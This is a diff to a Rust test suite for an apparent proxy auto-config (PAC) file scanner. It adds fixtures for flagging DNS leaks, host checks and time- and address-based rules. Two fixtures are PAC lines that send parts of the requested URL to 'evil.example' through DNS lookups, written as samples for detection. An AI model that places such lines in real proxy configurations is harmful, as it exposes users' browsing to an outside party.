@@ -66,6 +66,14 @@ fn parts_of_urls_in_dns_questions_are_found_however_they_are_written() {
             "isInNet(host.replace(/\\./g, '-') + '.evil.example', '10.0.0.0', '255.0.0.0');",
             "the host pacchecksecretone.",
         ),
+        (
+            "isInNet(url.substring(8, 20) + '.evil.example', '10.0.0.0', '255.0.0.0');",
+            "a question for pacchecksecr.evil.example",
+        ),
+        (
+            "if (dnsDomainIs(host, '.corp.example')) dnsResolve(url.length + '.evil.example');",
+            "the path of http://www.corp.example/",
+        ),
     ] {
         let found = found(&format!("{body}{END}"), "P-03");
         assert_eq!(found.len(), 1, "{body}");
@@ -102,6 +110,23 @@ fn spellings_that_matter_are_found() {
 }
 
 #[test]
+fn hosts_of_the_files_own_text_are_tried_too() {
+    let body = "if (host == 'intranet.corp.example') return 'DIRECT'; if (host == 'bad.corp.example') return x.y;";
+    let spelled = found(&format!("{body}{END}"), "P-05");
+    assert!(
+        spelled[0]
+            .1
+            .contains("https://intranet.corp.example./: PROXY"),
+        "{spelled:?}"
+    );
+    let failing = found(&format!("{body}{END}"), "P-12");
+    assert!(
+        failing[0].1.contains("https://bad.corp.example/: "),
+        "{failing:?}"
+    );
+}
+
+#[test]
 fn a_file_that_fails_for_some_urls_is_found() {
     let body = "var parts = host.split('.'); if (parts[1].length == 0) return 'DIRECT';";
     let failing = found(&format!("{body}{END}"), "P-12");
@@ -130,6 +155,22 @@ fn clock_address_and_chance_are_told_apart() {
             "info",
             "and then DIRECT",
         ),
+        (
+            "if (isInNet(myIpAddress(), '10.20.0.0', '255.255.0.0')) return 'DIRECT';",
+            "info",
+            "and then DIRECT",
+        ),
+        (
+            "if (myIpAddress().indexOf('10.33.') == 0) return 'DIRECT';",
+            "info",
+            "and then DIRECT",
+        ),
+        (
+            "if (weekdayRange('SAT', 'SUN') && timeRange(8, 18)) return 'DIRECT';",
+            "info",
+            "and then",
+        ),
+        ("if (dateRange(1)) return 'DIRECT';", "info", "and then"),
         (
             "if (typeof n == 'undefined') n = 0; n++; return 'PROXY p' + n + ':1';",
             "medium",
